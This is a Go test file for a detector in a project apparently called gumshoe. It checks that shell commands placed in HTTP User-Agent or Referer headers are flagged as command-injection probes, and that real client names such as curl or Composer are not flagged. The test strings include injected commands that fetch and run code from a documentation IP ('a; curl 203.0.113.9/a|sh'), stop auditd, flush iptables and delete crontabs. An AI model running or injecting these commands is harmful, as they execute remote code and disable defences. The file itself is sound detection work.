package payload

import (
	"testing"

	"gumshoe/ingest"
)

// Each text is tried as the agent and as the referer.
func TestCommandLinesAsHeaders(t *testing.T) {
	for _, text := range []string{
		"id", "whoami", "visudo", "uname -a", "ls -la", "env --version", "set -o history", "ansible-config dump", "ansible-galaxy role install x.y", "chef report nodes", "cscli alerts list", `"cscli" decisions list`, "systemctl stop auditd",
		"code=ansible-console", "cmd=id", "curl -s x.example", "a; curl 203.0.113.9/a|sh", "a; wget 203.0.113.9/a", "a; curl 3405803785/a", "python3 -c x", "wget -qO- x.example", "iptables --flush", "salt-call state.apply", "u'n'ame -a", "crontab -r", "chmod 777 x",
	} {
		for place, ev := range headers(text) {
			New(ingest.Hash{}).Enrich(&ev)
			if ev.Kind != ingest.KindProbe || ev.Request.Class&ingest.ClassRCE == 0 {
				t.Errorf("%s %q: kind %s, class %q, want a command", place, text, ev.Kind, ev.Request.Class)
			}
		}
	}
}

func TestProgramsThatNameThemselves(t *testing.T) {
	for _, text := range []string{
		"curl", "curl/8.5.0", "Wget/1.21 (linux-gnu)", "wget", "git/2.43.0", "ansible-httpget", "ansible-galaxy/2.16.1 (Linux; python:3.12.1)", "Chef Client/18.1.0 (ruby-3.1.2)", "Chef Knife/17.6", "chef-client", "python-requests/2.31", "Python 3.11", "perl", "Ruby", "node", "php 8.2", "npm/10.2 node/v20",
		"docker/24.0 go/go1.20", "apt-get", "Puppet/7.1 Ruby/2.7", "puppet/8.4.0", "Debian APT-HTTP/1.3", "settings", "environment", "id-crawler", "ID", "Mail", "time", "Time Machine", "find my friends", "kubectl/v1.29 (linux/amd64)", "salt/3006.1", "cpanel-http-client", "ping", "who", "at", "set top box", "nmap", "history",
	} {
		for place, ev := range headers(text) {
			New(ingest.Hash{}).Enrich(&ev)
			if ev.Kind != ingest.KindHTTPRequest {
				t.Errorf("%s %q: kind %s, class %q, want an ordinary request", place, text, ev.Kind, ev.Request.Class)
			}
		}
	}
}

// Clients that list what they were built with, a library of the name of a command among it.
func TestVersionsAreNoArguments(t *testing.T) {
	for _, agent := range []string{
		"Composer/2.7.7 (Linux; 6.1.0-21-amd64; PHP 8.2.18; cURL 7.88.1)", "Composer/2.2.0 (Windows NT; 10.0; PHP 7.4.3; cURL 7.64.0; Platform-PHP 8.1.0; CI)", "Mirror 2.1 (GNU Wget 1.21.4; linux-gnu)",
	} {
		ev := headers(agent)["agent"]
		New(ingest.Hash{}).Enrich(&ev)
		if ev.Kind != ingest.KindHTTPRequest {
			t.Errorf("%q: kind %s, class %q, want an ordinary request", agent, ev.Kind, ev.Request.Class)
		}
	}
}

func headers(text string) map[string]ingest.Event {
	return map[string]ingest.Event{
		"agent":   {Kind: ingest.KindHTTPRequest, Method: []byte("GET"), Target: []byte("/"), Agent: []byte(text)},
		"referer": {Kind: ingest.KindHTTPRequest, Method: []byte("GET"), Target: []byte("/"), Referer: []byte(text)},
	}
}
